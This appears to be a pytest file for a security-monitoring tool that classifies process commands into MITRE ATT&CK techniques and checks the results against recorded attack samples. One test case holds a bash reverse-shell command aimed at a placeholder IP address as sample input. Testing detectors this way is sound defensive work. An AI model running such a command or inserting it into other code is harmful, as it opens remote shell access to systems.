"""Which ATT&CK technique is proposed for a command."""

from __future__ import annotations

import orjson
import pytest

from tetratui.core.tuning.safety.attack_samples import recorded
from tetratui.core.tuning.safety.techniques import TECHNIQUE, technique_of


@pytest.mark.parametrize(
    ("binary", "arguments", "technique"),
    [
        ("/usr/bin/bash", '-c "bash -i >& /dev/tcp/192.0.2.9/9001 0>&1"', "T1059.004"),
        ("/bin/dash", "/opt/job.sh", "T1059.004"),
        ("/usr/bin/python3.12", "/opt/job.py", "T1059.006"),
        ("/usr/bin/perl", "-e 1", "T1059"),
        ("/usr/bin/curl", "-s http://192.0.2.9:9100/metrics", ""),
        ("/usr/bin/date", "+%s", ""),
        ("", "", ""),
    ],
)
def test_a_command_gets_the_technique_of_what_it_is_like(binary: str, arguments: str, technique: str) -> None:
    assert technique_of(binary, arguments) == technique


def test_a_recorded_command_gets_a_technique_that_it_was_recorded_with() -> None:
    known: dict[tuple[str, str], set[str]] = {}
    for attack_sample in recorded():
        process = next(iter(orjson.loads(attack_sample.line).values())).get("process", {})
        command = (process.get("binary", ""), process.get("arguments", ""))
        known.setdefault(command, set()).add(attack_sample.technique)
    agreed = [technique_of(*command) in techniques for command, techniques in known.items()]
    assert sum(agreed) / len(agreed) > 0.9
    assert all(TECHNIQUE.fullmatch(technique) for techniques in known.values() for technique in techniques)
